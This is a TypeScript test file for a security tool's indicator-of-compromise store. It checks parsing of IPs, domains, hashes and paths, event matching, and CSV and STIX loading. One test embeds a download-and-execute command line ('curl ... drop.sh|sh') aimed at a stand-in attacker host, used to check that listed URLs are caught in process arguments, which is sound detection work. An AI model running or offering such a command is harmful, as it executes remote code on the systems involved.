import { appendFileSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { SentinelEvent } from '../../event.ts';
import { IndicatorSet } from './indicator-set.ts';
import { IndicatorStore } from './indicator-store.ts';
import { splitCsv } from './read.ts';
import { parseStixPattern } from './stix.ts';
import { readIndicator } from './value.ts';
import type { Indicator } from './value.ts';

const SHA = 'a'.repeat(64);
let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'sentinel-ioc-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function event(more: Partial<SentinelEvent>): SentinelEvent {
  return {
    eventId: 2,
    type: 'process',
    action: 'exec',
    lane: 'security',
    tsNs: 1n,
    severity: 'info',
    ...more,
  };
}

function setOf(...values: string[]): IndicatorSet {
  const set = new IndicatorSet();
  const file = set.file('list.csv') as number;
  for (const [i, value] of values.entries()) {
    const indicator = readIndicator(value);
    if (typeof indicator === 'string') throw new Error(indicator);
    set.add(indicator, file, i + 1);
  }
  return set;
}

describe('values', () => {
  it.each<[string, string]>([
    [SHA.toUpperCase(), 'hash'],
    ['1.2.3.4', 'address'],
    ['1.2.3[.]4', 'address'],
    ['10.0.0.0/8', 'network'],
    ['1.2.3.4/32', 'address'],
    ['2001:db8::/32', 'network'],
    ['2001:db8::1', 'address'],
    ['Evil[.]Example[dot]COM', 'domain'],
    ['*.evil.example', 'domain'],
    ['hxxps://evil.example/a/', 'url'],
    ['/tmp/.x', 'path'],
    ['/dev/shm/', 'path'],
  ])('%s is a %s', (text, kind) => {
    expect((readIndicator(text) as Indicator).kind).toBe(kind);
  });

  it.each(['', 'word', 'd41d8cd98f00b204e9800998ecf8427e', '1.2.3', '300.1.1.1', '10.0.0.1/8', 'a b.com'])(
    '%j is refused with a reason',
    (text) => expect(typeof readIndicator(text)).toBe('string'),
  );
});

describe('matching', () => {
  it('finds domains and their subdomains, the most specific first', () => {
    const set = setOf('evil.example', 'cdn.evil.example');
    expect(set.findDomain('evil.example')?.line).toBe(1);
    expect(set.findDomain('A.Evil.Example.')?.line).toBe(1);
    expect(set.findDomain('x.cdn.evil.example')?.line).toBe(2);
    expect(set.findDomain('notevil.example')).toBeUndefined();
    expect(set.findDomain('example')).toBeUndefined();
    expect(set.findDomain('')).toBeUndefined();
  });

  it('finds addresses by the longest network, and IPv4 in its IPv6 form', () => {
    const set = setOf('10.0.0.0/8', '10.1.0.0/16', '10.1.2.3', '2001:db8::/32');
    expect(set.findAddress('10.9.9.9')?.line).toBe(1);
    expect(set.findAddress('10.1.9.9')?.line).toBe(2);
    expect(set.findAddress('::ffff:10.1.2.3')?.line).toBe(3);
    expect(set.findAddress('2001:db8:ffff::1')?.line).toBe(4);
    expect(set.findAddress('11.0.0.1')).toBeUndefined();
    expect(set.findAddress('not an address')).toBeUndefined();
  });

  it('finds paths, folders, hashes and what command lines name', () => {
    const set = setOf('/tmp/.x', '/dev/shm/', SHA, 'http://evil.example/drop.sh', 'bad.example', '6.6.6.6');
    expect(set.findPath('/tmp/.x')?.line).toBe(1);
    expect(set.findPath('/tmp/.xy')).toBeUndefined();
    expect(set.findPath('/dev/shm/a/b')?.line).toBe(2);
    expect(set.findHash(SHA)?.line).toBe(3);
    const lines = (argument: string): number[] =>
      set.findInArguments(['sh', '-c', argument]).map((hit) => hit.line);
    expect(lines('curl -s HTTP://Evil.example/drop.sh|sh')).toEqual([4]);
    expect(lines('wget https://a.bad.example:8443/x http://user@6.6.6.6/y http://good.example')).toEqual([
      5, 6,
    ]);
  });

  it('turns hits into detections that name file and line', () => {
    const set = setOf('6.6.6.6', 'bad.example', SHA, '/opt/x');
    expect(set.match(event({}))).toBeUndefined();
    expect(
      set.match(
        event({
          type: 'network',
          action: 'connect',
          network: { protocol: 'tcp', dstIp: '6.6.6.6', direction: 'outbound' },
        }),
      ),
    ).toEqual([
      {
        ruleId: 'indicator:address',
        title: 'Listed address',
        level: 'high',
        attack: [],
        clauses: [{ selection: 'indicator', field: 'address', pattern: 'list.csv:1', value: '6.6.6.6' }],
        source: 'indicator:list.csv:1',
      },
    ]);
    const inbound = event({
      type: 'network',
      action: 'accept',
      network: { protocol: 'tcp', srcIp: '6.6.6.6', dstIp: '10.0.0.1', direction: 'inbound' },
    });
    expect(set.match(inbound)).toHaveLength(1);
    expect(
      set.match(event({ type: 'dns', action: 'query', dns: { query: 'x.bad.example' } }))?.[0]?.source,
    ).toBe('indicator:list.csv:2');
    const hashes = { sha256: SHA, blake3: 'b'.repeat(64) };
    const process = { pid: 1, startNs: 1n, name: 'x', executable: '/opt/x', hashes };
    expect(set.match(event({ process }))?.map((detection) => detection.ruleId)).toEqual([
      'indicator:hash',
      'indicator:path',
    ]);
  });

  it('agrees with plain sets and prefix arithmetic', () => {
    const label = fc.constantFrom('a', 'b', 'cc', 'com');
    const domain = fc.array(label, { minLength: 2, maxLength: 4 }).map((labels) => labels.join('.'));
    const address = fc.integer({ min: 0, max: 255 }).map((n) => `10.0.${n & 3}.${n >> 2}`);
    const network = fc
      .tuple(fc.integer({ min: 20, max: 31 }), fc.integer({ min: 0, max: 1023 }))
      .map(([prefix, bits]) => {
        const base = ((10 << 24) | ((bits >>> 0) << 2)) & (-1 << (32 - prefix));
        return `${[24, 16, 8, 0].map((shift) => (base >>> shift) & 255).join('.')}/${prefix}`;
      });
    const number = (text: string): number =>
      text.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
    fc.assert(
      fc.property(
        fc.array(domain),
        fc.array(address),
        fc.array(network),
        fc.array(domain),
        fc.array(address),
        (domains, addresses, networks, names, ips) => {
          const set = setOf(...domains, ...addresses, ...networks);
          for (const name of names) {
            const expected = domains.some((listed) => name === listed || name.endsWith(`.${listed}`));
            expect(set.findDomain(name) !== undefined).toBe(expected);
          }
          for (const ip of ips) {
            const inside = networks.some((text) => {
              const [base = '', prefix = ''] = text.split('/');
              const size = 2 ** (32 - Number(prefix));
              return Math.floor(number(ip) / size) === Math.floor(number(base) / size);
            });
            expect(set.findAddress(ip) !== undefined).toBe(addresses.includes(ip) || inside);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('holds 300,000 keys in 12 bytes per slot without a false or lost one', () => {
    const set = new IndicatorSet(300_000);
    const file = set.file('big.csv') as number;
    for (let i = 0; i < 300_000; i += 1) {
      expect(set.add({ kind: 'domain', value: `h${i}.example` }, file, i + 1)).toBe(true);
    }
    expect(set.bytes).toBeLessThan(300_000 * 16);
    let lost = 0;
    let wrong = 0;
    for (let i = 0; i < 300_000; i += 1) {
      if (set.findDomain(`h${i}.example`)?.line !== i + 1) lost += 1;
      if (set.findDomain(`g${i}.example`)) wrong += 1;
    }
    expect([lost, wrong]).toEqual([0, 0]);
  });
});

describe('files', () => {
  it('reads CSV with a header, without one, quoted, and names what it cannot use', async () => {
    writeFileSync(
      join(root, 'a.csv'),
      '\uFEFF# list\ntype,value,level\nipv4,6.6.6.6,critical\ndomain,"bad.example"\nmd5,d41d8cd98f00b204e9800998ecf8427e,\n\r\nsha256,nothex,low\n',
    );
    writeFileSync(join(root, 'b.txt'), 'worse.example\n6.6.6.6\n10.0.0.0/8\n');
    writeFileSync(join(root, 'ignored.md'), 'text');
    const store = new IndicatorStore({ paths: [root, join(root, 'missing.csv')] });
    const report = await store.reload();
    expect(report).toMatchObject({ loaded: 4, duplicates: 1, overLimit: 0 });
    expect(report.problems.map(({ file, line }) => [file.slice(root.length + 1), line])).toEqual([
      ['missing.csv', 0],
      ['a.csv', 5],
      ['a.csv', 7],
    ]);
    expect(store.current.findAddress('6.6.6.6')).toMatchObject({ line: 3, level: 'critical' });
    expect(store.current.findDomain('bad.example')?.level).toBe('high');
  });

  it('reads STIX 2.1 bundles', async () => {
    const indicator = (n: number, pattern: string, more = {}): object => ({
      type: 'indicator',
      id: `indicator--${n}`,
      pattern_type: 'stix',
      pattern,
      ...more,
    });
    const bundle = {
      type: 'bundle',
      objects: [
        { type: 'identity', id: 'identity--1' },
        indicator(1, `[file:hashes.'SHA-256' = '${SHA}'] OR [ipv4-addr:value = '6.6.6.6']`),
        indicator(2, "[domain-name:value IN ('a.example', 'b.example') OR url:value = 'http://c.example/x']"),
        indicator(3, "[ipv4-addr:value = '7.7.7.7' AND network-traffic:dst_port = 1]"),
        indicator(4, "[ipv4-addr:value = '8.8.8.8']", { valid_until: '2020-01-01T00:00:00Z' }),
        indicator(5, "[ipv4-addr:value = '9.9.9.9']", { revoked: true }),
        indicator(6, "[ipv4-addr:value ISSUBSET '10.0.0.0/8']"),
      ],
    };
    writeFileSync(join(root, 'b.json'), JSON.stringify(bundle, undefined, 1));
    const store = new IndicatorStore({ paths: [root] });
    const report = await store.reload();
    expect(report.loaded).toBe(6);
    expect(report.problems.map(({ reason }) => reason)).toEqual([
      expect.stringMatching(/uses AND/),
      expect.stringMatching(/no longer valid/),
      'is revoked',
    ]);
    expect(store.current.findDomain('b.example')?.line).toBeGreaterThan(10);
    expect(store.current.findAddress('10.1.1.1')).toBeDefined();
    expect(store.current.findAddress('7.7.7.7')).toBeUndefined();
  });

  it('keeps to its limit', async () => {
    writeFileSync(join(root, 'a.csv'), Array.from({ length: 50 }, (_, i) => `10.0.0.${i}\n`).join(''));
    const store = new IndicatorStore({ paths: [root], maxIndicators: 20 });
    expect(await store.reload()).toMatchObject({ loaded: 20, overLimit: 30 });
    expect(store.size).toBe(20);
  });

  it('reloads by itself when a list changes', async () => {
    const path = join(root, 'a.csv');
    writeFileSync(path, '6.6.6.6\n');
    const store = new IndicatorStore({ paths: [path] });
    await store.reload();
    const onReload = vi.fn<() => void>();
    store.watch(10, onReload);
    appendFileSync(path, '7.7.7.7\n');
    utimesSync(path, 1, 2);
    await vi.waitFor(() => expect(onReload).toHaveBeenCalled(), { timeout: 10_000 });
    store.stop();
    expect(store.current.findAddress('7.7.7.7')).toBeDefined();
  });
});

it('splits CSV lines', () => {
  expect(splitCsv('a,"b ""c"", d",,e\r')).toEqual(['a', 'b "c", d', '', 'e']);
  expect(splitCsv('"open')).toEqual(['open']);
});

it.each([
  ["[ipv4-addr:value = '1.1.1.1'", /not complete/],
  ["[ipv4-addr:value != '1.1.1.1']", /uses !=/],
  ["[windows-registry-key:key = 'x']", /tests windows-registry-key:key/],
  ["[file:hashes.'SHA-256' = 'a'] FOLLOWEDBY [url:value = 'b']", /uses FOLLOWEDBY/],
  ['', /not complete/],
  ["[url:value = 'a", /cannot be read/],
])('refuses the pattern %s', (pattern, reason) => {
  expect(parseStixPattern(pattern)).toMatch(reason);
});
